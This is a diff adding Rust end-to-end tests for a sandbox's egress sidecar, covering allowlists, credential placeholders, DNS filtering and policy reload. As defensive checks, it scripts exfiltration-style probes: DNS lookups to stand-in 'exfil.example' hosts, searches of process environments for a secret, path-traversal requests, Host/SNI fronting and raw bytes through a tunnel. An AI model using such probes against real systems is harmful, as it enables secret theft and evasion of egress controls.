@@ -1,0 +1,420 @@
+//! End-to-end tests of the sidecar's egress from inside a live bottle, with
+//! real clients (curl, python, getent) against a local echo origin on the
+//! bottle's egress network, whose TLS certificate comes from a test CA the
+//! sidecar is told to trust (`egress.upstream_roots`). Every refusal is
+//! asserted exactly, next to an allowed request that shows the path works.
+
+use bottle_e2e::*;
+
+const SECRET: &str = "sk-e2e-SECRET-4242-do-not-leak";
+
+/// A bottle whose egress network holds the echo origin under several names.
+struct Setup {
+    b: Bottle,
+    _origin: Container,
+    _pki: TempDir,
+}
+
+fn config(extra_allow: &[&str]) -> String {
+    let mut allow = vec![
+        "origin.test",
+        "other.test",
+        "api.test",
+        "localhost",
+        "private.test",
+    ];
+    allow.extend_from_slice(extra_allow);
+    let mut private = vec!["origin.test", "other.test", "api.test"];
+    private.extend_from_slice(extra_allow);
+    let list = |v: &[&str]| {
+        v.iter()
+            .map(|s| format!("\"{s}\""))
+            .collect::<Vec<_>>()
+            .join(", ")
+    };
+    format!(
+        "[egress]\n\
+         allow = [{}]\n\
+         allow_private = [{}]\n\
+         upstream_roots = [\"test-ca.pem\"]\n\
+         \n\
+         [[egress.rule]]\n\
+         host = \"api.test\"\n\
+         methods = [\"GET\"]\n\
+         paths = [\"/repos/acme/\"]\n\
+         \n\
+         [[egress.credential]]\n\
+         host = \"origin.test\"\n\
+         header = \"x-api-key\"\n\
+         from_env = \"E2E_API_KEY\"\n",
+        list(&allow),
+        list(&private)
+    )
+}
+
+fn setup(prefix: &str) -> Option<Setup> {
+    if !engine_or_skip(prefix) {
+        return None;
+    }
+    let pki = TempDir::new(&format!("{prefix}-pki"));
+    let names = [
+        "origin.test",
+        "other.test",
+        "api.test",
+        "private.test",
+        "late.test",
+        "denied.test",
+    ];
+    test_pki(&pki.0, &names);
+    let ca = std::fs::read(pki.0.join("ca.pem")).unwrap();
+    let b = Bottle::up_with(
+        prefix,
+        &config(&[]),
+        &[("test-ca.pem", &ca)],
+        &[("E2E_API_KEY", SECRET)],
+    );
+    let origin = echo_origin(
+        &format!("bottle-test-origin-{}", b.name),
+        &format!("bottle-{}-egress", b.name),
+        &names,
+        &pki.0,
+    );
+    Some(Setup {
+        b,
+        _origin: origin,
+        _pki: pki,
+    })
+}
+
+/// Runs a shell script in the agent; returns stdout (stderr on failure too).
+fn sh(b: &Bottle, script: &str) -> String {
+    let out = b.sh(script);
+    format!("{}{}", stdout(&out), stderr(&out))
+}
+
+fn json_of(text: &str) -> serde_json::Value {
+    let start = text
+        .find('{')
+        .unwrap_or_else(|| panic!("no JSON in: {text}"));
+    serde_json::from_str(&text[start..text.rfind('}').unwrap() + 1])
+        .unwrap_or_else(|e| panic!("{e}: {text}"))
+}
+
+#[test]
+fn intercepted_https_rules_credentials_and_guard() {
+    let Some(s) = setup("tls") else { return };
+    let b = &s.b;
+
+    // Allowed host over HTTPS, verified with the bottle's CA (no -k anywhere).
+    let text = sh(b, "curl -sS --max-time 10 https://origin.test/hello");
+    let v = json_of(&text);
+    assert_eq!(v["path"], "/hello", "{text}");
+
+    // The credential: the agent holds a placeholder and sends it; the origin
+    // receives the real value.
+    let placeholder = sh(b, "printf %s \"$E2E_API_KEY\"");
+    assert!(
+        placeholder.starts_with("bottle-placeholder-"),
+        "{placeholder}"
+    );
+    let text = sh(
+        b,
+        "curl -sS --max-time 10 -H \"x-api-key: $E2E_API_KEY\" https://origin.test/cred",
+    );
+    assert_eq!(json_of(&text)["headers"]["x-api-key"], SECRET, "{text}");
+    // Injected even when the agent sends nothing.
+    let text = sh(b, "curl -sS --max-time 10 https://origin.test/cred2");
+    assert_eq!(json_of(&text)["headers"]["x-api-key"], SECRET, "{text}");
+    // The placeholder sent to another (allowed) host is refused, not forwarded.
+    let text = sh(b, "curl -s --max-time 10 -w '\\nstatus=%{http_code}' -H \"authorization: Bearer $E2E_API_KEY\" https://other.test/x");
+    assert!(text.contains("status=403"), "{text}");
+    assert!(text.contains("placeholder-leak"), "{text}");
+    // ...and the real value never went there either.
+    let text = sh(b, "curl -sS --max-time 10 https://other.test/plain");
+    assert!(!text.contains(SECRET), "{text}");
+
+    // The secret is nowhere in the agent: env, pid 1's env, files.
+    let text = sh(
+        b,
+        "env; tr '\\0' '\\n' </proc/1/environ; grep -rsl -- 'SECRET-4242' /etc /root /tmp /workspace /usr/local /var /home /opt; echo done",
+    );
+    assert!(text.ends_with("done\n"), "{text}");
+    assert!(
+        !text.contains(SECRET),
+        "secret visible in the agent:\n{text}"
+    );
+    let inspect = docker(&["inspect", &format!("bottle-{}-agent", b.name)]);
+    assert!(
+        !stdout(&inspect).contains(SECRET),
+        "secret in the agent's container config"
+    );
+
+    // Method/path rule on api.test.
+    let code = |script: &str| sh(b, script).trim().to_string();
+    assert_eq!(
+        code("curl -s -o /dev/null -w '%{http_code}' https://api.test/repos/acme/app"),
+        "200"
+    );
+    let text = sh(
+        b,
+        "curl -s -X POST -w '\\nstatus=%{http_code}' https://api.test/repos/acme/app",
+    );
+    assert!(text.contains("status=403"), "POST: {text}");
+    assert_eq!(
+        code("curl -s -o /dev/null -w '%{http_code}' https://api.test/repos/other/app"),
+        "403"
+    );
+    assert_eq!(code("curl -s --path-as-is -o /dev/null -w '%{http_code}' https://api.test/repos/acme/../other"), "403");
+    assert_eq!(code("curl -s --path-as-is -o /dev/null -w '%{http_code}' https://api.test/repos/acme/%2e%2e/other"), "403");
+
+    // Not allowed, and allowed on the wrong port: refused at CONNECT.
+    assert_eq!(
+        code("curl -s -o /dev/null -w '%{http_connect}' https://denied.test/"),
+        "403"
+    );
+    assert_eq!(
+        code("curl -s -o /dev/null -w '%{http_connect}' https://origin.test:8443/"),
+        "403"
+    );
+
+    // Host header that disagrees with the CONNECT authority / SNI.
+    let text = sh(
+        b,
+        "curl -s -w '\\nstatus=%{http_code}' -H 'Host: other.test' https://origin.test/front",
+    );
+    assert!(text.contains("status=403"), "Host != SNI: {text}");
+    assert!(
+        !text.contains("\"path\""),
+        "origin answered a fronted request: {text}"
+    );
+
+    // SNI that disagrees with the CONNECT authority.
+    let text = sh(
+        b,
+        r#"python3 - <<'PY'
+import os, socket, ssl
+s = socket.create_connection((os.environ["BOTTLE_SIDECAR"], 3128), timeout=10)
+s.sendall(b"CONNECT origin.test:443 HTTP/1.1\r\nHost: origin.test:443\r\n\r\n")
+print("connect:", s.recv(4096).split(b"\r\n")[0].decode())
+ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+try:
+    t = ctx.wrap_socket(s, server_hostname="other.test")
+    t.sendall(b"GET /sni HTTP/1.1\r\nHost: other.test\r\n\r\n")
+    print("answer:", t.recv(4096)[:200])
+except Exception as e:
+    print("refused:", type(e).__name__)
+PY"#,
+    );
+    assert!(text.contains("connect: HTTP/1.1 200"), "{text}");
+    assert!(
+        !text.contains("\"path\""),
+        "SNI mismatch reached the origin: {text}"
+    );
+
+    // Bytes that are neither TLS nor HTTP inside an allowed tunnel are not piped.
+    let text = sh(
+        b,
+        r#"python3 - <<'PY'
+import os, socket
+s = socket.create_connection((os.environ["BOTTLE_SIDECAR"], 3128), timeout=10)
+s.sendall(b"CONNECT origin.test:80 HTTP/1.1\r\nHost: origin.test:80\r\n\r\n")
+print("connect:", s.recv(4096).split(b"\r\n")[0].decode())
+s.sendall(b"SSH-2.0-OpenSSH_9.6\r\n\x00\x01\x02 not http\r\n\r\n")
+data = b""
+try:
+    while True:
+        chunk = s.recv(4096)
+        if not chunk:
+            break
+        data += chunk
+except Exception as e:
+    print("err:", type(e).__name__)
+print("got:", data[:300])
+PY"#,
+    );
+    assert!(text.contains("connect: HTTP/1.1 200"), "{text}");
+    assert!(
+        !text.contains("Bad request")
+            && !text.contains("Error response")
+            && !text.contains("HTTP/1.0 400"),
+        "raw bytes reached the origin: {text}"
+    );
+
+    // Destination guard: an allowed name resolving to loopback, and an allowed
+    // name resolving to a private address without allow_private.
+    let text = sh(
+        b,
+        "curl -s --noproxy '' -x \"$HTTP_PROXY\" -w '\\nstatus=%{http_code}' http://localhost/",
+    );
+    assert!(text.contains("status=403"), "loopback via proxy: {text}");
+    let text = sh(
+        b,
+        "curl -s -w '\\nstatus=%{http_code}' http://private.test/",
+    );
+    assert!(
+        text.contains("status=403"),
+        "private without allow_private: {text}"
+    );
+    assert!(!text.contains("\"path\""), "{text}");
+    let text = sh(
+        b,
+        "curl -s -o /dev/null -w '%{http_connect}' https://private.test/",
+    );
+    assert_eq!(text.trim(), "403", "private via CONNECT: {text}");
+
+    // The audit log recorded decisions but never the secret.
+    let log = std::fs::read_to_string(
+        b.state
+            .0
+            .join("bottle")
+            .join(&b.name)
+            .join("logs/egress.jsonl"),
+    )
+    .expect("audit log");
+    assert!(log.contains("\"host\":\"origin.test\""), "{log}");
+    assert!(log.contains("placeholder-leak"), "{log}");
+    assert!(!log.contains(SECRET), "secret in the audit log");
+    let logs = b.bottle(&["logs", &b.name, "--service", "egress"]);
+    assert!(stdout(&logs).contains("origin.test"), "{}", stderr(&logs));
+}
+
+#[test]
+fn sidecar_dns_and_the_transparent_path() {
+    let Some(s) = setup("dns") else { return };
+    let b = &s.b;
+    let sidecar = b.ip("sidecar", "internal");
+
+    // Allowed names resolve to the sidecar; everything else gets no answer.
+    let text = sh(b, "getent hosts origin.test");
+    assert!(
+        text.starts_with(&sidecar),
+        "allowed name -> sidecar {sidecar}: {text}"
+    );
+    let text = sh(b, "getent hosts denied.test; echo \"exit=$?\"; getent hosts x7f3a9.exfil.example; echo \"exit=$?\"");
+    assert_eq!(
+        text.matches("exit=2").count(),
+        2,
+        "non-allowed names resolved: {text}"
+    );
+    let text = sh(b, "dig +short +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example; dig +tries=1 +time=3 @$BOTTLE_SIDECAR secret-data.exfil.example | grep status");
+    assert!(text.contains("REFUSED"), "{text}");
+
+    // Clients that ignore the proxy variables: DNS sends them to the sidecar's
+    // transparent listeners, under the same rules.
+    let unset =
+        "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u all_proxy";
+    let text = sh(
+        b,
+        &format!("{unset} curl -sS --max-time 10 https://origin.test/transparent"),
+    );
+    assert_eq!(json_of(&text)["path"], "/transparent", "{text}");
+    let text = sh(
+        b,
+        &format!("{unset} curl -sS --max-time 10 http://other.test/plain80"),
+    );
+    assert_eq!(json_of(&text)["path"], "/plain80", "{text}");
+    // A credential host is never reached in clear text, where the value would travel unencrypted.
+    let text = sh(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' http://origin.test/plain80"));
+    assert!(
+        text.contains("status=403") && text.contains("credential-needs-tls"),
+        "{text}"
+    );
+    // The credential is injected on the transparent path as well.
+    assert_eq!(
+        json_of(&sh(
+            b,
+            &format!("{unset} curl -sS --max-time 10 https://origin.test/c")
+        ))["headers"]["x-api-key"],
+        SECRET
+    );
+    // A denied name does not resolve, so there is nowhere to connect.
+    let text = sh(
+        b,
+        &format!("{unset} curl -s --max-time 10 https://denied.test/; echo \"exit=$?\""),
+    );
+    assert!(text.contains("exit=6"), "{text}");
+    // Forcing a denied name onto the transparent listener by address: SNI decides.
+    let text = sh(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:443:{sidecar} https://denied.test/"));
+    assert!(!text.contains("\"path\""), "{text}");
+    assert!(
+        text.contains("status=403") && text.contains("default-deny"),
+        "{text}"
+    );
+    let text = sh(b, &format!("{unset} curl -s --max-time 10 -w '\\nstatus=%{{http_code}}' --resolve denied.test:80:{sidecar} http://denied.test/"));
+    assert!(text.contains("status=403"), "{text}");
+}
+
+#[test]
+fn policy_reload_applies_without_restart() {
+    let Some(s) = setup("reload") else { return };
+    let b = &s.b;
+    let started = |b: &Bottle| {
+        stdout(&docker(&[
+            "inspect",
+            "-f",
+            "{{.State.StartedAt}}",
+            &format!("bottle-{}-sidecar", b.name),
+        ]))
+    };
+    let before = started(b);
+    let text = sh(
+        b,
+        "curl -s -o /dev/null -w '%{http_connect}' https://late.test/",
+    );
+    assert_eq!(text.trim(), "403", "late.test before reload: {text}");
+
+    std::fs::write(
+        b.dir.0.join("bottle.toml"),
+        format!("name = \"{}\"\n{}", b.name, config(&["late.test"])),
+    )
+    .unwrap();
+    let reload = |extra: &[&str]| {
+        std::process::Command::new(bottle_bin())
+            .args(["reload", &b.name])
+            .args(extra)
+            .current_dir(&b.dir.0)
+            .env("XDG_STATE_HOME", &b.state.0)
+            .env("E2E_API_KEY", SECRET)
+            .stdin(std::process::Stdio::null())
+            .output()
+            .unwrap()
+    };
+    // The file may have been written by the agent: a widening needs consent.
+    let out = reload(&[]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("+ egress.allow gains `late.test`"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(
+        stderr(&out).contains("--accept-changes"),
+        "{}",
+        stderr(&out)
+    );
+    let text = sh(
+        b,
+        "curl -s -o /dev/null -w '%{http_connect}' https://late.test/",
+    );
+    assert_eq!(text.trim(), "403", "applied without consent: {text}");
+
+    let out = reload(&["--accept-changes"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(stderr(&out).contains("+[late.test]"), "{}", stderr(&out));
+
+    let text = sh(b, "curl -sS --max-time 10 https://late.test/now");
+    assert_eq!(json_of(&text)["path"], "/now", "{text}");
+    assert_eq!(started(b), before, "the sidecar was restarted");
+
+    // A reload with a bad file changes nothing and says why.
+    std::fs::write(
+        b.dir.0.join("bottle.toml"),
+        format!("name = \"{}\"\n[egress]\nallow = [\"http://x\"]\n", b.name),
+    )
+    .unwrap();
+    let out = b.bottle(&["reload", &b.name]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("egress.allow[0]"), "{}", stderr(&out));
+    let text = sh(b, "curl -sS --max-time 10 https://late.test/still");
+    assert_eq!(json_of(&text)["path"], "/still", "{text}");
+}
